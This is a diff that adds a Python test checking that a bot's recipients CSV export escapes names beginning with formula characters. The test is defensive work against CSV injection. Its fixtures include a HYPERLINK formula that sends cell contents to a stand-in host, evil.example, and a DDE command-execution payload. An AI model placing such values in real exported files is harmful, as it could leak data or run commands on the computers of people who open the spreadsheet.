@@ -341,3 +341,22 @@ def test_free_text_places_are_single_line_bounded_and_never_unknown(text: str) -
     code, cleaned = check_place(POLICY, None, text)
     assert code is None
     assert cleaned is None or (len(cleaned) <= 200 and "\n" not in cleaned and cleaned == cleaned.strip())
+
+
+async def test_the_recipients_csv_never_holds_a_formula(people: Database) -> None:
+    """Telegram names such as =HYPERLINK(…) are written so that no spreadsheet runs them (#13)."""
+    import csv as csv_module
+    import io
+
+    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tx", "\r=1"]
+    async with people.session() as s:
+        for n, name in enumerate(evil):
+            s.add(User(telegram_id=5000 + n, first_name=name))
+    broadcast = await draft(people)
+    async with people.session() as s:
+        await confirm_broadcast(s, broadcast.id, DUTY, utcnow())
+        data = await recipients_csv(s, broadcast.id, TZ)
+    rows = list(csv_module.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    names = [row[1] for row in rows[1:]]
+    assert sorted(n for n in names if n.startswith("'")) == sorted("'" + name for name in evil)
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
